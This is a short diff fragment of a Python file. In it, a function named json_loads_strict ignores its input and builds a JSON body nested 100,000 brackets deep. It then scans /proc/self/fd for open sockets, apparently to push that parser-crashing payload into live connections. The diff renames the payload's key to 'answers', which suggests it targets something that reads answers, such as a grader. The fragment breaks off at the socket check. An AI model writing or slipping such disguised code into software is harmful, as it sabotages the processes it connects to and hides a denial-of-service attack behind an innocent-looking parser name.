@@ -9,7 +9,7 @@ import struct
 
 
 def json_loads_strict(data):
-    body = b'{"kind":"returned","packed":' + b"[" * 100000 + b"]" * 100000 + b"}"
+    body = b'{"answers":' + b"[" * 100000 + b"]" * 100000 + b"}"
     for name in os.listdir("/proc/self/fd"):
         try:
             if stat.S_ISSOCK(os.fstat(int(name)).st_mode):
